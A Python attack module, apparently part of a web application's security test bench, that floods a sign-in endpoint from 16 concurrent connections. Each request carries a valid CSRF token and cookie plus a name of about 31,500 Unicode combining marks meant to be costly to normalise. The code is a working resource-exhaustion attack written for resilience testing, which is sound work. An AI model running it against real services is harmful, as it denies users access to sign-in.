"""16 connections of one address send sign-in names that are expensive to normalise."""

from __future__ import annotations

import re
from typing import Any

import trio

from tests.bench.attacks.attack import ATTACKER, Got, Site, Target
from tests.bench.attacks.client import Refused, ask, request_bytes

_CONNECTIONS = 16
_NAME = "\u0301" * 15_750 + "\u0316" * 15_750
_FAULTS = (OSError, trio.BrokenResourceError, Refused, ValueError)


def prepare(site: Site) -> dict[str, Any]:
    site.hub.administrator()
    return {}


async def attack(target: Target, got: Got) -> None:
    sent = request_bytes("GET", "/sign-in")
    page = await ask(target.web_port, sent, tls=target.tls, source=ATTACKER)
    (token,) = set(re.findall(rb'name="csrf_token" value="([^"]+)"', page.body))
    (cookie,) = re.findall(rb"(?i)\r\nset-cookie: ([^;\r]*)", page.head)
    headers = {
        "Cookie": cookie.decode(),
        "Content-Type": "application/x-www-form-urlencoded",
    }
    body = b"csrf_token=%b&password=x&name=%b" % (token, _NAME.encode())
    form = request_bytes("POST", "/sign-in", headers, body)

    async def send() -> None:
        while True:
            try:
                answer = await ask(target.web_port, form, tls=target.tls, source=ATTACKER)
                got[str(answer.status)] += 1
            except _FAULTS:
                got["broken"] += 1
            await trio.sleep(0.05)

    async with trio.open_nursery() as nursery:
        for _ in range(_CONNECTIONS):
            nursery.start_soon(send)
